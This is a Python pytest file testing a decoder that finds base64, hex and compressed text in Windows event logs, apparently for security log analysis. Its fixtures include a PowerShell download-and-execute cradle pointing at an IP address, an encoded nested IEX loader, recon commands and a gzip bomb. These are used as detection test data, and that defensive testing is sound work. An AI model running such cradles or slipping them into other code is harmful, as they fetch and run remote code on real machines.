"""evtx_decoded: encodings as Python writes them, and what looks like one and is none."""

import base64
import collections
import gzip
import os
import pathlib
import random
import re
import zlib

import pytest
from conftest import SAMPLES, interrupted

SCRIPT = "$client = New-Object Net.WebClient; # Grüße\r\nIEX $client.DownloadString('http://203.0.113.7/a')"
LONG = "\n".join(f"function Get-Part{number} {{ return {number * 7919} + $args[{number}] }}" for number in range(20))


def base64_of(data):
    return base64.b64encode(data).decode()


def raw_deflate(data):
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


WRITERS = {
    "base64": base64_of, "hex": bytes.hex, "base64/gzip": lambda data: base64_of(gzip.compress(data)), "base64/zlib": lambda data: base64_of(zlib.compress(data)),
    "base64/deflate": lambda data: base64_of(raw_deflate(data)), "hex/gzip": lambda data: gzip.compress(data).hex().upper(),
}


@pytest.fixture(name="decoded")
def fixture_decoded(con):
    return lambda value: [(found["encoding"], found["text"]) for found in con.execute("SELECT evtx_decoded_texts(MAP {'a': $1})", [value]).fetchone()[0]]


@pytest.mark.parametrize("name", WRITERS)
@pytest.mark.parametrize("charset", ["utf-8", "utf-16-le"])
def test_a_text_is_decoded_wherever_it_is(decoded, name, charset):
    encoded = WRITERS[name](LONG.encode(charset))
    for value in [encoded, f"powershell -nop -e {encoded}", f"a('{encoded}'),", f"x=0x{encoded};" if "hex" in name else f"data:;base64,{encoded}"]:
        assert decoded(value) == [(name, LONG)], value[:40]
    wrapped = re.sub("(.{76})", "\\1\r\n", encoded)
    assert "base64" not in name or decoded(wrapped) == [(name, LONG)]


@pytest.mark.parametrize("text", ["whoami", "Hello World!", "net user /domain", "ipconfig", "все файлы", "Get-Process # 日本語", "naïve"])
def test_a_short_command_is_decoded(decoded, text):
    encoded = base64_of(text.encode("utf-16-le"))
    assert decoded(f"powershell.exe -EncodedCommand {encoded}") == ([("base64", text)] if len(encoded.rstrip("=")) >= 16 else [])
    assert decoded(text.encode("utf-16-le").hex()) == ([("hex", text)] if len(text) >= 4 else [])


def test_a_text_in_a_text_is_decoded(decoded):
    inner = f"IEX (New-Object IO.StreamReader([Convert]::FromBase64String('{WRITERS['base64/gzip'](SCRIPT.encode())}')))"
    assert decoded(base64_of(inner.encode("utf-16-le"))) == [("base64", inner), ("base64/base64/gzip", SCRIPT)]
    # A log keeps the start of a long command line.
    start = base64_of(gzip.compress(LONG.encode()))[:300]
    (name, text), = decoded(start)
    assert name == "base64/gzip" and LONG.startswith(text) and len(text) > 50


NO_TEXT = [
    "EnableControlledFolderAccess Disabled", "EnableNotificationMode", "notifyAutopilotProfile", "Microsoft-Windows-Security-Auditing", "WindowsUpdateClient/Operational", "AAAAAAAAAAAAAAAAAAAAAAAA",
    "C:/ProgramData/Microsoft/Windows/Start/Menu/Programs", "https://example.org/this/is/a/long/path/without/any/code", "SeBackupPrivilegeSeRestorePrivilegeSeDebugPrivilege", "0000000000000000000000000000",
    "d41d8cd98f00b204e9800998ecf8427e", "20240305084605123456", "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", base64_of("𠀀𠀁𠀂".encode("utf-16-le")),
    base64_of("讞罢⸠".encode("utf-16-le")), "LogsTheTimeTableWorkingArguments", base64_of("讞罢⸠誶院例螮闢".encode("utf-16-le")), "MICROSOFTWINDOWSSECURITYAUDITING", "NorthwindDomainController01WorkstationAdministrators",
]


@pytest.mark.parametrize("value", NO_TEXT)
def test_what_encodes_no_text_is_left_out(decoded, value):
    assert decoded(value) == []


def test_chance_makes_no_text(con):
    """Random bytes as hashes, keys and identifiers write them, and words that are put together."""
    draws = random.Random(75)
    # Of a text that does not change.
    words = re.findall("[A-Za-z]{3,}", (SAMPLES.parent / "LICENSE").read_text(encoding="utf-8"))
    values = [write(draws.randbytes(draws.choice([12, 16, 20, 32, 48, 96]))) for write in (base64_of, bytes.hex) for _ in range(20_000)]
    values += ["".join(word.capitalize() for word in draws.choices(words, k=draws.randint(3, 6))) for _ in range(20_000)]
    found = con.execute("SELECT value, evtx_decoded_texts(MAP {'a': value}) FROM (SELECT unnest($1) AS value) WHERE len(evtx_decoded_texts(MAP {'a': value})) > 0", [values]).fetchall()
    assert found == []


def test_each_field_says_what_it_encodes(con):
    """Also those of user_data, and of the second of two records."""
    con.execute(f"CREATE TABLE events AS SELECT * REPLACE (row_number() OVER () AS record_id) FROM read_evtx('{SAMPLES / 'DC01-Security.evtx'}') LIMIT 3")
    con.execute("UPDATE events SET event_data = MAP {'a': 'none', 'b': $1, 'c': $1 || ' and ' || $2} WHERE record_id = 1", [base64_of(SCRIPT.encode("utf-16-le")), SCRIPT.encode().hex()])
    con.execute("UPDATE events SET event_data = NULL, user_data = $1 WHERE record_id = 2", [f'{{"Job":{{"Command":"{base64_of(SCRIPT.encode())}"}}}}'])
    con.execute("UPDATE events SET event_data = MAP {'a': NULL} WHERE record_id = 3")
    rows = con.execute("SELECT record_id, field, encoding, text FROM evtx_decoded_of('events') ORDER BY ALL").fetchall()
    assert rows == [(1, "b", "base64", SCRIPT), (1, "c", "base64", SCRIPT), (1, "c", "hex", SCRIPT), (2, "Command", "base64", SCRIPT)]
    assert con.execute("SELECT evtx_decoded_texts(NULL), evtx_decoded_texts(MAP {})").fetchone() == ([], [])


def test_decoding_can_be_interrupted(con):
    bomb = base64_of(gzip.compress(b"whoami /all " * (1 << 22)))
    con.execute("CREATE TABLE maps AS SELECT MAP {'a': $1 || i} AS fields FROM range(2000) AS numbers(i)", [bomb])
    with interrupted(con, 0.3):
        con.execute("SELECT sum(len(evtx_decoded_texts(fields))) FROM maps").fetchall()


@pytest.mark.parametrize("folder", ["EVTX_CORPUS", "EVTX_VARIED", "EVTX_COLLECTIONS", "EVTX_TECHNIQUES"])
def test_real_logs_give_readable_texts(con, folder):
    """Nine in ten letters of each text are ASCII or Latin, and Python decodes its value to the text."""
    if folder not in os.environ or not pathlib.Path(os.environ[folder]).exists():
        pytest.skip(f"{folder} is not set")
    con.execute("CREATE TABLE events AS SELECT record_id, filename, event_id, time_created, computer, channel, event_data, user_data FROM read_evtx($1)", [os.environ[folder]])
    found = con.execute("SELECT DISTINCT field, encoding, text FROM evtx_decoded_of('events')").fetchall()
    values = "\n".join(value for value, in con.execute("SELECT DISTINCT unnest(map_values(data)) FROM evtx_data_rows('events') WHERE event_id IN (SELECT event_id FROM evtx_decoded_of('events'))").fetchall() if value)
    for field, encoding, text in found:
        assert sum(letter < "\u0250" for letter in text) >= 0.9 * len(text), (field, encoding, text)
        if encoding == "hex":
            forms = [text.encode(charset).hex() for charset in ("utf-8", "utf-16-le")]
            assert any(form in values or form.upper() in values for form in forms), (field, text)
    print(folder, collections.Counter(encoding for _, encoding, _ in found))
